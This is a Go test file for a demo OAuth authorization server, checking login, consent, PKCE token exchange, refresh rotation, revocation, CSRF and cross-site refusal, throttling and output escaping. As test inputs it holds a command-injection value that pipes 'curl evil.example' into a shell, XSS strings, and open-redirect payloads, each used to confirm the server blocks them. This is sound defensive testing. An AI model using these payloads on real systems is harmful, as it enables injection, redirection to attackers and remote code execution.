package main

import (
	"html"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/oauth2"
)

// browser is a user's browser on the demo: it keeps cookies, and follows
// no redirect by itself, so that each step of the flow is seen.
type browser struct {
	d      *demo
	client *http.Client
}

// newBrowser returns a browser with an empty cookie jar. It shares the
// harness's transport, whose connections the harness closes at shutdown.
func (d *demo) newBrowser() *browser {
	d.t.Helper()
	jar, err := cookiejar.New(nil)
	require.NoError(d.t, err)
	return &browser{d: d, client: &http.Client{
		Jar: jar, Timeout: startTimeout, Transport: d.client.Transport,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
	}}
}

// page is a response of the browser, its body read.
type page struct {
	*http.Response
	body string
}

// location is the page's redirect target, resolved against the demo.
func (p *page) location(t *testing.T) *url.URL {
	t.Helper()
	require.Contains(t, []int{http.StatusFound, http.StatusSeeOther}, p.StatusCode, "a redirect: %s", p.body)
	u, err := p.Request.URL.Parse(p.Header.Get("Location"))
	require.NoError(t, err)
	return u
}

// get GETs target: a URL, or a path on the demo.
func (b *browser) get(t *testing.T, target string) *page {
	t.Helper()
	if strings.HasPrefix(target, "/") {
		target = b.d.base + target
	}
	req, err := http.NewRequest(http.MethodGet, target, nil)
	require.NoError(t, err)
	return b.do(t, req)
}

// post submits form to path as a browser would from the demo's own
// pages: with Origin and Sec-Fetch-Site of the same origin, and header
// added.
func (b *browser) post(t *testing.T, path string, form url.Values, header http.Header) *page {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, b.d.base+path, strings.NewReader(form.Encode()))
	require.NoError(t, err)
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Origin", b.d.base)
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	for k, v := range header {
		req.Header[k] = v
	}
	return b.do(t, req)
}

func (b *browser) do(t *testing.T, req *http.Request) *page {
	t.Helper()
	res, err := b.client.Do(req)
	require.NoError(t, err)
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	require.NoError(t, err)
	return &page{Response: res, body: string(body)}
}

// login submits the login form with username and password, back to next.
func (b *browser) login(t *testing.T, next, username, password string) *page {
	t.Helper()
	return b.post(t, loginPath, url.Values{"username": {username}, "password": {password}, "next": {next}}, nil)
}

var hiddenInput = regexp.MustCompile(`<input type="hidden" name="([^"]+)" value="([^"]*)">`)

// form returns the hidden fields of a page's form.
func (p *page) form() url.Values {
	f := url.Values{}
	for _, m := range hiddenInput.FindAllStringSubmatch(p.body, -1) {
		f.Add(html.UnescapeString(m[1]), html.UnescapeString(m[2]))
	}
	return f
}

// consent approves (or denies) the consent page, and returns where the
// browser is sent.
func (b *browser) consent(t *testing.T, p *page, decision string) *url.URL {
	t.Helper()
	require.Equal(t, http.StatusOK, p.StatusCode, "the consent page: %s", p.body)
	f := p.form()
	require.NotEmpty(t, f.Get("csrf"), "the consent page has a CSRF token:\n%s", p.body)
	f.Set("decision", decision)
	return b.post(t, authorizePath, f, nil).location(t)
}

// signInAndApprove walks the browser part of the flow for authURL: the
// authorization endpoint sends it to the login page, the user signs in,
// comes back and approves. It returns the callback URL the browser is
// sent to.
func (b *browser) signInAndApprove(t *testing.T, authURL, username, password string) *url.URL {
	t.Helper()
	login := b.get(t, authURL).location(t)
	require.Equal(t, loginPath, login.Path)
	next := login.Query().Get("next")
	back := b.login(t, next, username, password).location(t)
	require.Equal(t, next, back.RequestURI())
	return b.consent(t, b.get(t, back.String()), "approve")
}

// oauthConfig is the x/oauth2 configuration of a client of the demo that
// redirects to its callback page.
func (d *demo) oauthConfig(id, secret string) *oauth2.Config {
	style := oauth2.AuthStyleInHeader
	if secret == "" {
		style = oauth2.AuthStyleInParams
	}
	return &oauth2.Config{ClientID: id, ClientSecret: secret, RedirectURL: d.base + callbackPath, Scopes: []string{"read", "write"},
		Endpoint: oauth2.Endpoint{AuthURL: d.base + authorizePath, TokenURL: d.base + "/oauth/token", AuthStyle: style}}
}

// TestAuthorizationCodeFlow is the whole flow over real HTTP, as the
// printed walk-through has a person do it, with golang.org/x/oauth2 as the
// client: the authorization endpoint sends the browser to the demo's
// login page; a wrong password gets 403 and one generic message; the
// right one comes back to the consent page; approving lands on the
// callback page with code, state and iss; the code is exchanged with its
// verifier; the access token is the user's on /v1/me; the refresh token
// rotates, and the spent one is refused.
func TestAuthorizationCodeFlow(t *testing.T) {
	d := startDemo(t)
	require.Equal(t, "alice", d.username, "stdout:\n%s", d.stdout)
	require.NotEmpty(t, d.password)
	b := d.newBrowser()
	cfg := d.oauthConfig("demo-app", "")
	verifier := oauth2.GenerateVerifier()
	authURL := cfg.AuthCodeURL("st-123", oauth2.S256ChallengeOption(verifier))

	// Signed out: to the login page, which comes back to the request.
	login := b.get(t, authURL).location(t)
	assert.Equal(t, loginPath, login.Path)
	next := login.Query().Get("next")
	assert.Equal(t, strings.TrimPrefix(authURL, d.base), next)

	p := b.get(t, login.String())
	require.Equal(t, http.StatusOK, p.StatusCode)
	assert.Contains(t, p.body, "Demo sign-in — not for production")
	requirePageHeaders(t, p)
	assert.Equal(t, next, p.form().Get("next"), "the form comes back to the request")

	// A wrong password and an unknown user: 403, the same page.
	wrong := b.login(t, next, "alice", "wrong-password")
	assert.Equal(t, http.StatusForbidden, wrong.StatusCode)
	assert.Empty(t, wrong.Header.Get("WWW-Authenticate"))
	assert.Contains(t, wrong.body, "Wrong username or password.")
	requirePageHeaders(t, wrong)
	unknown := b.login(t, next, "mallory", d.password)
	assert.Equal(t, http.StatusForbidden, unknown.StatusCode)
	assert.Equal(t, wrong.body, unknown.body, "an unknown user gets the same answer as a wrong password")
	assert.Empty(t, wrong.Header.Values("Set-Cookie"))

	// The right one: a session cookie, and back to the request.
	ok := b.login(t, next, d.username, d.password)
	assert.Equal(t, next, ok.location(t).RequestURI())
	cookies := ok.Cookies()
	require.Len(t, cookies, 1)
	c := cookies[0]
	assert.Equal(t, sessionCookie, c.Name)
	assert.GreaterOrEqual(t, len(c.Value), 43, "32 random bytes")
	assert.True(t, c.HttpOnly)
	assert.Equal(t, http.SameSiteLaxMode, c.SameSite)
	assert.Equal(t, "/", c.Path)
	assert.False(t, c.Secure, "plain http: not Secure")
	assert.Equal(t, 3600, c.MaxAge)

	// The consent page, approved: to the callback page.
	p = b.get(t, authURL)
	require.Equal(t, http.StatusOK, p.StatusCode, p.body)
	assert.Contains(t, p.body, "Demo orders app")
	assert.Contains(t, p.body, "user-alice")
	back := b.consent(t, p, "approve")
	assert.Equal(t, d.base+callbackPath, back.Scheme+"://"+back.Host+back.Path)
	q := back.Query()
	assert.Equal(t, "st-123", q.Get("state"))
	assert.Equal(t, d.base, q.Get("iss"), "RFC 9207")
	code := q.Get("code")
	require.NotEmpty(t, code)

	cb := b.get(t, back.String())
	require.Equal(t, http.StatusOK, cb.StatusCode)
	assert.Contains(t, cb.body, "Demo callback — not for production")
	assert.Contains(t, cb.body, "CODE="+code)
	assert.Contains(t, cb.body, "(this server's issuer")
	assert.Contains(t, cb.body, "curl -d client_id=demo-app -d grant_type=authorization_code -d code="+code+
		" -d redirect_uri="+d.base+callbackPath+" -d code_verifier=$VERIFIER "+d.base+"/oauth/token")
	assert.Contains(t, cb.body, "curl -u svc-acme:$CLIENT_SECRET -d grant_type=authorization_code -d code="+code)
	requirePageHeaders(t, cb)

	// The client's part, with x/oauth2.
	ctx := d.oauthContext()
	tok, err := cfg.Exchange(ctx, code, oauth2.VerifierOption(verifier))
	require.NoError(t, err)
	require.NotEmpty(t, tok.RefreshToken)
	me := d.do(http.MethodGet, "/v1/me", tok.AccessToken, nil)
	require.Equal(t, http.StatusOK, me.status, "body: %s", me.body)
	assert.Equal(t, map[string]any{"subject": "user-alice", "tenant": "acme", "scopes": []any{"read", "write"},
		"tier": "free", "key_id": ""}, me.json(t))

	// Refresh: rotation. The spent refresh token is refused, and its
	// reuse ends the grant (RFC 9700 §4.14.2).
	expired := *tok
	expired.Expiry = time.Now().Add(-time.Minute)
	fresh, err := cfg.TokenSource(ctx, &expired).Token()
	require.NoError(t, err)
	assert.NotEqual(t, tok.RefreshToken, fresh.RefreshToken, "rotated")
	assert.Equal(t, http.StatusOK, d.do(http.MethodGet, "/v1/me", fresh.AccessToken, nil).status)
	res := d.postForm("/oauth/token", "", "", url.Values{"grant_type": {"refresh_token"}, "client_id": {"demo-app"}, "refresh_token": {tok.RefreshToken}})
	assert.Equal(t, http.StatusBadRequest, res.status)
	assert.Equal(t, "invalid_grant", res.json(t)["error"], "the spent refresh token is refused")
	assert.Equal(t, http.StatusUnauthorized, d.do(http.MethodGet, "/v1/me", fresh.AccessToken, nil).status, "the grant ended")

	_, err = cfg.Exchange(ctx, code, oauth2.VerifierOption(verifier))
	assert.ErrorContains(t, err, "invalid_grant", "a code works once")

	// demo-app is public: nothing proves the next request comes from the
	// app alice approved, so she is asked again (RFC 8252 §8.6).
	again := b.get(t, cfg.AuthCodeURL("st-456", oauth2.S256ChallengeOption(verifier)))
	assert.Equal(t, http.StatusOK, again.StatusCode, "the consent page again")
	assert.Contains(t, again.body, "Demo orders app")

	// Revocation (RFC 7009): a fresh grant, its refresh token revoked by
	// the app; the grant's access token is refused from then on.
	back = b.consent(t, again, "approve")
	tok, err = cfg.Exchange(ctx, back.Query().Get("code"), oauth2.VerifierOption(verifier))
	require.NoError(t, err)
	assert.Equal(t, http.StatusOK, d.do(http.MethodGet, "/v1/me", tok.AccessToken, nil).status)
	res = d.postForm("/oauth/revoke", "", "", url.Values{"client_id": {"demo-app"}, "token": {tok.RefreshToken}})
	assert.Equal(t, http.StatusOK, res.status, "body: %s", res.body)
	assert.Equal(t, http.StatusUnauthorized, d.do(http.MethodGet, "/v1/me", tok.AccessToken, nil).status, "revoked")

	require.Equal(t, 0, d.stop())
	logs := d.stderr.String()
	for _, secret := range []string{d.password, "wrong-password", code, tok.AccessToken, tok.RefreshToken, fresh.RefreshToken, c.Value} {
		assert.NotContains(t, logs, secret, "a secret reached the logs")
	}
	assert.Contains(t, logs, `msg="demo sign-in" `)
	assert.Contains(t, logs, `msg="demo sign-in refused"`)
	assert.Equal(t, 1, strings.Count(d.stdout.String(), d.password), "the password is printed once")
}

// requirePageHeaders checks the headers of the demo's HTML pages.
func requirePageHeaders(t *testing.T, p *page) {
	t.Helper()
	assert.Equal(t, "text/html; charset=utf-8", p.Header.Get("Content-Type"))
	assert.Equal(t, "no-store", p.Header.Get("Cache-Control"))
	assert.Equal(t, "no-referrer", p.Header.Get("Referrer-Policy"))
	csp := p.Header.Get("Content-Security-Policy")
	assert.Contains(t, csp, "default-src 'none'")
	assert.Contains(t, csp, "frame-ancestors 'none'")
}

// TestConfidentialClientFlow: svc-acme, the generated confidential
// client, redeems its code with its secret, and not without it.
func TestConfidentialClientFlow(t *testing.T) {
	d := startDemo(t)
	require.Equal(t, "svc-acme", d.clientID)
	ctx := d.oauthContext()
	cfg := d.oauthConfig(d.clientID, d.clientSecret)
	verifier := oauth2.GenerateVerifier()
	b := d.newBrowser()

	back := b.signInAndApprove(t, cfg.AuthCodeURL("s", oauth2.S256ChallengeOption(verifier)), d.username, d.password)
	tok, err := cfg.Exchange(ctx, back.Query().Get("code"), oauth2.VerifierOption(verifier))
	require.NoError(t, err)
	me := d.do(http.MethodGet, "/v1/me", tok.AccessToken, nil)
	require.Equal(t, http.StatusOK, me.status, "body: %s", me.body)
	assert.Equal(t, "user-alice", me.json(t)["subject"], "the user's token, not the service's")

	// Introspection (RFC 7662): the confidential client asks about the
	// user's token, in its tenant.
	res := d.postForm("/oauth/introspect", d.clientID, d.clientSecret, url.Values{"token": {tok.AccessToken}})
	require.Equal(t, http.StatusOK, res.status, "body: %s", res.body)
	in := res.json(t)
	assert.Equal(t, true, in["active"])
	assert.Equal(t, "user-alice", in["sub"])
	assert.Equal(t, "acme", in["tenant"])
	assert.Equal(t, d.clientID, in["client_id"])

	// Without its secret, as if it were public: invalid_client. (The
	// consent of a confidential client is remembered: no consent page
	// this time.)
	back = b.get(t, cfg.AuthCodeURL("s", oauth2.S256ChallengeOption(verifier))).location(t)
	res = d.postForm("/oauth/token", "", "", url.Values{"grant_type": {"authorization_code"}, "client_id": {d.clientID},
		"code": {back.Query().Get("code")}, "redirect_uri": {cfg.RedirectURL}, "code_verifier": {verifier}})
	assert.Equal(t, http.StatusUnauthorized, res.status, "body: %s", res.body)
	assert.Equal(t, "invalid_client", res.json(t)["error"])
}

// TestPrintedWalkthrough follows the walk-through the demo prints, line
// by line: the verifier, the URL to open, and the curl lines, as a shell
// would send them, for the public and the confidential client.
func TestPrintedWalkthrough(t *testing.T) {
	d := startDemo(t)
	out := d.stdout.String()
	verifier := regexp.MustCompile(`(?m)^  VERIFIER=(\S+)$`).FindStringSubmatch(out)
	require.NotNil(t, verifier, "no VERIFIER line in:\n%s", out)
	urls := regexp.MustCompile(`(?m)^  (http://\S+/oauth/authorize\?\S+)$`).FindAllStringSubmatch(out, -1)
	require.Len(t, urls, 2, "the authorization URLs of demo-app and svc-acme")
	redeems := regexp.MustCompile(`(?m)^  TOKENS=\$\(curl -s (.*)\); echo "\$TOKENS"$`).FindAllStringSubmatch(out, -1)
	require.Len(t, redeems, 3, "demo-app's redeem and refresh, and svc-acme's redeem")
	vars := map[string]string{"VERIFIER": verifier[1]}
	b := d.newBrowser()

	for i, client := range []string{"demo-app", "svc-acme"} {
		authURL := urls[i][1]
		assert.Contains(t, authURL, "client_id="+client)
		var back *url.URL
		if i == 0 {
			back = b.signInAndApprove(t, authURL, d.username, d.password)
		} else {
			// Signed in already: the consent page straight away.
			back = b.consent(t, b.get(t, authURL), "approve")
		}
		assert.Equal(t, "/demo/callback", back.Path)
		vars["CODE"] = back.Query().Get("code")
		line := redeems[0][1]
		if client == "svc-acme" {
			line = redeems[2][1]
		}
		tok, body := requireToken(t, d.curl(t, line, vars))
		assert.NotEmpty(t, body["refresh_token"], client)
		me := d.do(http.MethodGet, "/v1/me", tok, nil)
		require.Equal(t, http.StatusOK, me.status, "body: %s", me.body)
		assert.Equal(t, "user-alice", me.json(t)["subject"])
		if client == "demo-app" {
			vars["REFRESH_TOKEN"] = body["refresh_token"].(string)
			_, body = requireToken(t, d.curl(t, redeems[1][1], vars))
			assert.NotEqual(t, vars["REFRESH_TOKEN"], body["refresh_token"], "rotated")

			// Step 7: a new grant, revoked by the printed line.
			back = b.consent(t, b.get(t, authURL), "approve") // public: asked again
			vars["CODE"] = back.Query().Get("code")
			tok, body = requireToken(t, d.curl(t, line, vars))
			vars["REFRESH_TOKEN"] = body["refresh_token"].(string)
			revoke := regexp.MustCompile(`(?m)^  curl (-d client_id=\S+ -d token=\$REFRESH_TOKEN \S+/oauth/revoke)$`).FindStringSubmatch(out)
			require.NotNil(t, revoke, "no revoke line in:\n%s", out)
			res := d.curl(t, revoke[1], vars)
			assert.Equal(t, http.StatusOK, res.status, "body: %s", res.body)
			assert.Equal(t, http.StatusUnauthorized, d.do(http.MethodGet, "/v1/me", tok, nil).status, "revoked")
		}
	}
}

// curlArg matches the options of the printed curl lines.
var curlArg = regexp.MustCompile(`(-d|-u) (\S+)`)

// curl sends what a printed curl line sends, its shell variables
// expanded from vars: -d fields as a form, -u as HTTP Basic, to the URL
// at its end.
func (d *demo) curl(t *testing.T, line string, vars map[string]string) *response {
	t.Helper()
	line = regexp.MustCompile(`\$([A-Z_]+)`).ReplaceAllStringFunc(line, func(v string) string {
		val, ok := vars[v[1:]]
		require.True(t, ok, "no value for %s", v)
		return val
	})
	fields := strings.Fields(line)
	target := fields[len(fields)-1]
	require.True(t, strings.HasPrefix(target, d.base+"/"), line)
	form := url.Values{}
	var id, secret string
	for _, m := range curlArg.FindAllStringSubmatch(line, -1) {
		if m[1] == "-u" {
			id, secret, _ = strings.Cut(m[2], ":")
			continue
		}
		k, v, _ := strings.Cut(m[2], "=")
		form.Add(k, v)
	}
	return d.postForm(strings.TrimPrefix(target, d.base), id, secret, form)
}

// TestLoginNext is the login page's open-redirect table: it sends the
// browser back only to an authorization request on this server.
func TestLoginNext(t *testing.T) {
	d := startDemo(t)
	b := d.newBrowser()
	tests := []struct{ next, want string }{
		{"/oauth/authorize?client_id=demo-app&state=x", "/oauth/authorize?client_id=demo-app&state=x"},
		{"/oauth/authorize", "/oauth/authorize"},
		{"//evil.example", loginPath},
		{"//evil.example/oauth/authorize", loginPath},
		{"https://evil.example", loginPath},
		{"https://evil.example/oauth/authorize?x=1", loginPath},
		{`/\evil.example`, loginPath},
		{`/oauth/authorize\..\..\evil`, loginPath},
		{"/oauth/authorizer", loginPath},
		{"/oauth/authorize/../../v1/admin/keys", loginPath},
		{"/v1/me", loginPath},
		{"javascript:alert(1)", loginPath},
		{"/oauth/authorize?x=1#frag", loginPath},
		{"/oauth/authorize?x=\x00", loginPath},
		{"/oauth/authorize?" + strings.Repeat("x", maxNext), loginPath},
		{"", loginPath},
	}
	for _, tt := range tests {
		p := b.login(t, tt.next, d.username, d.password)
		assert.Equal(t, tt.want, p.Header.Get("Location"), "next %q", tt.next)
		// The page's form carries only a safe next, too.
		assert.Equal(t, tt.want, b.get(t, loginPath+"?"+url.Values{"next": {tt.next}}.Encode()).form().Get("next"), "next %q", tt.next)
	}
}

// TestLoginCrossSite: a login form posted from another site is refused,
// whichever header says so; one from this origin, or from a client that
// is not a browser (no such header), is not.
func TestLoginCrossSite(t *testing.T) {
	d := startDemo(t)
	form := url.Values{"username": {d.username}, "password": {d.password}, "next": {authorizePath}}
	tests := []struct {
		name   string
		header http.Header
		status int
	}{
		{"Sec-Fetch-Site cross-site", http.Header{"Sec-Fetch-Site": {"cross-site"}, "Origin": {"https://evil.example"}}, http.StatusForbidden},
		{"Sec-Fetch-Site same-site", http.Header{"Sec-Fetch-Site": {"same-site"}, "Origin": {"http://other.127.0.0.1.example"}}, http.StatusForbidden},
		{"Origin of another site, no Sec-Fetch-Site", http.Header{"Sec-Fetch-Site": nil, "Origin": {"https://evil.example"}}, http.StatusForbidden},
		{"Origin null", http.Header{"Sec-Fetch-Site": nil, "Origin": {"null"}}, http.StatusForbidden},
		{"same origin", nil, http.StatusSeeOther},
		{"Sec-Fetch-Site none (typed by the user)", http.Header{"Sec-Fetch-Site": {"none"}, "Origin": nil}, http.StatusSeeOther},
		{"not a browser", http.Header{"Sec-Fetch-Site": nil, "Origin": nil}, http.StatusSeeOther},
	}
	for _, tt := range tests {
		b := d.newBrowser()
		p := b.post(t, loginPath, form, tt.header)
		assert.Equal(t, tt.status, p.StatusCode, "%s: %s", tt.name, p.body)
		if tt.status == http.StatusForbidden {
			assert.Contains(t, p.body, "sent from another site", tt.name)
			assert.Empty(t, p.Header.Values("Set-Cookie"), "%s: no session", tt.name)
		}
	}
}

// TestLoginThrottled: failed sign-ins count against the auth_failures
// limit of the address; past it, even the right password waits.
func TestLoginThrottled(t *testing.T) {
	d := startDemo(t, "-config", writeConfig(t, `{"auth_failures": {"requests": 3, "window": "1m"}}`))
	b := d.newBrowser()
	for range 3 {
		assert.Equal(t, http.StatusForbidden, b.login(t, authorizePath, d.username, "wrong-password").StatusCode)
	}
	p := b.login(t, authorizePath, d.username, d.password)
	assert.Equal(t, http.StatusTooManyRequests, p.StatusCode)
	assert.NotEmpty(t, p.Header.Get("Retry-After"))
	assert.Contains(t, p.body, "Too many failed sign-ins")
	assert.Empty(t, p.Header.Values("Set-Cookie"))
}

// TestLoginGoodPasswordsNotCounted: a right password gives back what its
// attempt reserved, so that signing in often never throttles anyone.
func TestLoginGoodPasswordsNotCounted(t *testing.T) {
	d := startDemo(t, "-config", writeConfig(t, `{"auth_failures": {"requests": 2, "window": "1m"}}`))
	b := d.newBrowser()
	for range 5 {
		assert.Equal(t, http.StatusSeeOther, b.login(t, authorizePath, d.username, d.password).StatusCode)
	}
}

// TestUserScopes: a user may approve only the scopes the config gives
// them, whatever the client may ask: the consent page and the token show
// the scopes narrowed to the user's; asking only for more is access_denied.
func TestUserScopes(t *testing.T) {
	d := startDemo(t, "-config", writeConfig(t, `{"users": [
		{"username": "reader", "password": "`+cfgUserPassword+`", "subject": "user-reader", "tenant": "acme", "scopes": ["read"]}
	]}`))
	assert.Empty(t, d.username, "config users: none generated")
	assert.NotContains(t, d.stdout.String(), cfgUserPassword)
	b := d.newBrowser()
	cfg := d.oauthConfig("demo-app", "")
	verifier := oauth2.GenerateVerifier()

	login := b.get(t, cfg.AuthCodeURL("s", oauth2.S256ChallengeOption(verifier))).location(t)
	back := b.login(t, login.Query().Get("next"), "reader", cfgUserPassword).location(t)
	p := b.get(t, back.String())
	require.Equal(t, http.StatusOK, p.StatusCode, "read write, for a reader: narrowed")
	assert.Equal(t, "read", p.form().Get("scope"))
	code := b.consent(t, p, "approve").Query().Get("code")
	tok, err := cfg.Exchange(d.oauthContext(), code, oauth2.VerifierOption(verifier))
	require.NoError(t, err)
	assert.Equal(t, "read", tok.Extra("scope"))
	me := d.do(http.MethodGet, "/v1/me", tok.AccessToken, nil)
	require.Equal(t, http.StatusOK, me.status, "body: %s", me.body)
	assert.Equal(t, map[string]any{"subject": "user-reader", "tenant": "acme", "scopes": []any{"read"}, "tier": "free", "key_id": ""}, me.json(t))

	// Only write, which the reader does not hold: back to the client.
	cfg.Scopes = []string{"write"}
	back = b.get(t, cfg.AuthCodeURL("s", oauth2.S256ChallengeOption(verifier))).location(t)
	assert.Equal(t, callbackPath, back.Path)
	assert.Equal(t, "access_denied", back.Query().Get("error"))
}

// TestUserTier: a config user's tier is the tier of the tokens they
// approve (oauth.User.Tier), and of their refreshes: /v1/me shows it, and
// the API rate-limits them in it.
func TestUserTier(t *testing.T) {
	d := startDemo(t, "-config", writeConfig(t, `{"users": [
		{"username": "paid", "password": "`+cfgUserPassword+`", "subject": "user-paid", "tenant": "acme", "scopes": ["read"], "tier": "pro"}
	]}`))
	b := d.newBrowser()
	cfg := d.oauthConfig("demo-app", "")
	verifier := oauth2.GenerateVerifier()
	login := b.get(t, cfg.AuthCodeURL("s", oauth2.S256ChallengeOption(verifier))).location(t)
	back := b.login(t, login.Query().Get("next"), "paid", cfgUserPassword).location(t)
	p := b.get(t, back.String())
	require.Equal(t, http.StatusOK, p.StatusCode)
	code := b.consent(t, p, "approve").Query().Get("code")
	tok, err := cfg.Exchange(d.oauthContext(), code, oauth2.VerifierOption(verifier))
	require.NoError(t, err)
	me := d.do(http.MethodGet, "/v1/me", tok.AccessToken, nil)
	require.Equal(t, http.StatusOK, me.status, "body: %s", me.body)
	assert.Equal(t, map[string]any{"subject": "user-paid", "tenant": "acme", "scopes": []any{"read"}, "tier": "pro", "key_id": ""}, me.json(t))
	assert.Contains(t, me.header.Get("RateLimit-Policy"), "q=200", "the pro tier's limits: %s", me.header.Get("RateLimit-Policy"))

	// A refresh keeps the tier.
	expired := *tok
	expired.Expiry = time.Now().Add(-time.Minute)
	next, err := cfg.TokenSource(d.oauthContext(), &expired).Token()
	require.NoError(t, err)
	require.NotEqual(t, tok.AccessToken, next.AccessToken, "refreshed")
	me = d.do(http.MethodGet, "/v1/me", next.AccessToken, nil)
	require.Equal(t, http.StatusOK, me.status, "body: %s", me.body)
	assert.Equal(t, "pro", me.json(t)["tier"], "after a refresh")
}

// TestConsentAfterSessionEnds: a consent form posted without a session
// goes to the login page, which comes back to the same request.
func TestConsentAfterSessionEnds(t *testing.T) {
	d := startDemo(t)
	cfg := d.oauthConfig("demo-app", "")
	authURL := cfg.AuthCodeURL("s", oauth2.S256ChallengeOption(oauth2.GenerateVerifier()))
	b := d.newBrowser()
	login := b.get(t, authURL).location(t)
	consent := b.get(t, b.login(t, login.Query().Get("next"), d.username, d.password).location(t).String())

	f := consent.form()
	f.Set("decision", "approve")
	p := d.newBrowser().post(t, authorizePath, f, nil)
	again := p.location(t)
	assert.Equal(t, loginPath, again.Path)
	next, err := url.Parse(again.Query().Get("next"))
	require.NoError(t, err)
	want, _ := url.Parse(authURL)
	assert.Equal(t, want.Query(), next.Query(), "the same request, without the form's CSRF token and decision")
}

// TestSessionExpiry: a session ends after sessionTTL.
func TestSessionExpiry(t *testing.T) {
	s := &sessionStore{byID: make(map[[32]byte]session)}
	u := &demoUser{Username: "alice"}
	now := time.Now()
	id, ok := s.start(u, now)
	require.True(t, ok)
	assert.Equal(t, u, s.get(id, now.Add(sessionTTL-time.Second)))
	assert.Nil(t, s.get(id+"x", now))
	assert.Nil(t, s.get(id, now.Add(sessionTTL)))
	assert.Empty(t, s.byID, "an ended session is dropped")
}

// TestCallbackPage: the callback page shows an error, and escapes what
// it shows.
func TestCallbackPage(t *testing.T) {
	d := startDemo(t)
	b := d.newBrowser()
	p := b.get(t, callbackPath+"?"+url.Values{"error": {"access_denied"}, "error_description": {"<script>alert(1)</script>"},
		"state": {`"><b>`}, "iss": {"https://evil.example"}}.Encode())
	require.Equal(t, http.StatusOK, p.StatusCode)
	assert.Contains(t, p.body, "access_denied")
	assert.Contains(t, p.body, "&lt;script&gt;alert(1)&lt;/script&gt;")
	assert.NotContains(t, p.body, "<script>")
	assert.NotContains(t, p.body, `"><b>`)
	assert.NotContains(t, p.body, "curl", "no code, nothing to redeem")

	// A code of a crafted link is quoted in the line to paste, as it is
	// in the curl lines.
	p = b.get(t, callbackPath+"?"+url.Values{"code": {"x;curl evil.example|sh"}}.Encode())
	assert.Contains(t, p.body, "CODE=&#39;x;curl evil.example|sh&#39;")
	assert.NotContains(t, p.body, "CODE=x;")
	p = b.get(t, callbackPath+"?code=ac_x&iss=https://evil.example")
	assert.Contains(t, p.body, "<strong>not</strong> this server's issuer")
	p = b.get(t, callbackPath)
	assert.Contains(t, p.body, "carries neither")
}

// TestAuthorizationCodeAcrossInstances: with -db, codes and refresh
// tokens live in the database: a code issued by one instance is redeemed
// once across two, and a refresh token outlives a restart.
func TestAuthorizationCodeAcrossInstances(t *testing.T) {
	db := "sqlite:" + filepath.Join(t.TempDir(), "demo.db")
	a := startDemo(t, "-db", db)
	b := startDemo(t, "-db", db)
	assert.NotContains(t, b.stdout.String(), "Generated OAuth client", "the clients are a's")
	assert.Equal(t, "alice", b.username, "users live in memory: each instance has its own alice")
	assert.NotEqual(t, a.password, b.password)

	verifier := oauth2.GenerateVerifier()
	cfgA := a.oauthConfig("demo-app", "")
	back := a.newBrowser().signInAndApprove(t, cfgA.AuthCodeURL("s", oauth2.S256ChallengeOption(verifier)), a.username, a.password)
	code := back.Query().Get("code")

	// Redeemed at b, with a's redirect URI: the grant store is shared.
	form := url.Values{"grant_type": {"authorization_code"}, "client_id": {"demo-app"}, "code": {code},
		"redirect_uri": {cfgA.RedirectURL}, "code_verifier": {verifier}}
	_, body := requireToken(t, b.postForm("/oauth/token", "", "", form))
	refresh := func(d *demo) string {
		t.Helper()
		f := url.Values{"grant_type": {"refresh_token"}, "client_id": {"demo-app"}, "refresh_token": {body["refresh_token"].(string)}}
		var tok string
		tok, body = requireToken(t, d.postForm("/oauth/token", "", "", f))
		return tok
	}
	refresh(a)

	// The grant outlives both instances' memory.
	require.Equal(t, 0, a.stop())
	require.Equal(t, 0, b.stop())
	c := startDemo(t, "-db", db)
	me := c.do(http.MethodGet, "/v1/me", refresh(c), nil)
	require.Equal(t, http.StatusOK, me.status, "body: %s", me.body)
	assert.Equal(t, "user-alice", me.json(t)["subject"])

	// The code, redeemed at b, again at c: once across instances.
	res := c.postForm("/oauth/token", "", "", form)
	assert.Equal(t, http.StatusBadRequest, res.status)
	assert.Equal(t, "invalid_grant", res.json(t)["error"], "a code is redeemed once across instances")
}

// TestMetadata: the demo's RFC 8414 document names its own routes at its
// real address, and every grant it runs.
func TestMetadata(t *testing.T) {
	d := startDemo(t)
	res := d.do(http.MethodGet, "/.well-known/oauth-authorization-server", "", nil)
	require.Equal(t, http.StatusOK, res.status, "body: %s", res.body)
	m := res.json(t)
	assert.Equal(t, d.base, m["issuer"])
	for field, path := range map[string]string{
		"authorization_endpoint": "/oauth/authorize", "token_endpoint": "/oauth/token", "revocation_endpoint": "/oauth/revoke",
		"introspection_endpoint": "/oauth/introspect", "jwks_uri": "/.well-known/jwks.json",
	} {
		assert.Equal(t, d.base+path, m[field], field)
		if field != "authorization_endpoint" && field != "jwks_uri" {
			// Each endpoint is mounted where the document says: a GET is
			// its 405, not the mux's 404.
			assert.Equal(t, http.StatusMethodNotAllowed, d.do(http.MethodGet, path, "", nil).status, path)
		}
	}
	assert.Equal(t, []any{"client_credentials", "urn:ietf:params:oauth:grant-type:token-exchange", "authorization_code", "refresh_token"},
		m["grant_types_supported"])
	assert.Equal(t, []any{"S256"}, m["code_challenge_methods_supported"])
	assert.Equal(t, true, m["authorization_response_iss_parameter_supported"])
}
